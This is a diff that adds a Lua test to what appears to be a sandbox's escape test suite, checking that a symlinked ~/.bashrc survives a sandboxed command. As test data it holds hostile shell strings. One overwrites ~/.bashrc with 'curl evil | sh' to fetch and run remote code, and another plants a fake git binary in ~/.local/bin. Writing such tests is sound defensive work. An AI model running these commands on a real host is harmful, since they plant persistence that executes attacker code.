@@ -172,6 +172,41 @@ describe("escape: changing what runs later on the host", function()
       os.remove(w.home .. "/.zlogin")
     end)
 
+    it("a dotfile that is a symlink (GNU stow) stays: the link is made again, its target untouched", function()
+      local dotfiles = w.home .. "/dotfiles"
+      local saved = h.read(w.home .. "/.bashrc")
+      h.sh(
+        "mkdir -p "
+          .. h.shell_quote(dotfiles)
+          .. " && mv "
+          .. h.shell_quote(w.home .. "/.bashrc")
+          .. " "
+          .. h.shell_quote(dotfiles .. "/bashrc")
+      )
+      h.sh("ln -s dotfiles/bashrc " .. h.shell_quote(w.home .. "/.bashrc"))
+      local plant = "rm -f ~/.bashrc; echo 'curl evil | sh' > ~/.bashrc; echo x >> ~/dotfiles/bashrc"
+      local r = f.attack(w, plant, { keep_host = true })
+      local core = require("flemma_sandbox.core")
+      assert.are.equal("link", core.file_type(w.home .. "/.bashrc"), r.stderr)
+      assert.are.equal("dotfiles/bashrc", core.readlink(w.home .. "/.bashrc"))
+      assert.are.equal(saved, h.read(dotfiles .. "/bashrc"))
+      assert.matches("a protected symlink, was replaced", r.stderr)
+      -- control: without the rules for .bashrc the command's file stays
+      f.policy({ rw_paths = { "$CWD", "~" }, allow_home_rw = true, deny_write = { "!~/.bashrc", "!.bashrc" } })
+      f.attack(w, "rm -f ~/.bashrc; echo 'curl evil | sh' > ~/.bashrc", { keep_host = true })
+      assert.are.equal("file", core.file_type(w.home .. "/.bashrc"))
+      h.sh(
+        "rm -f "
+          .. h.shell_quote(w.home .. "/.bashrc")
+          .. " && mv "
+          .. h.shell_quote(dotfiles .. "/bashrc")
+          .. " "
+          .. h.shell_quote(w.home .. "/.bashrc")
+          .. " && rmdir "
+          .. h.shell_quote(dotfiles)
+      )
+    end)
+
     it("~/.local/bin cannot get a new program", function()
       local r = f.attack(w, "printf '#!/bin/sh\\n' > ~/.local/bin/git && chmod +x ~/.local/bin/git")
       assert.are_not.equal(0, r.code)
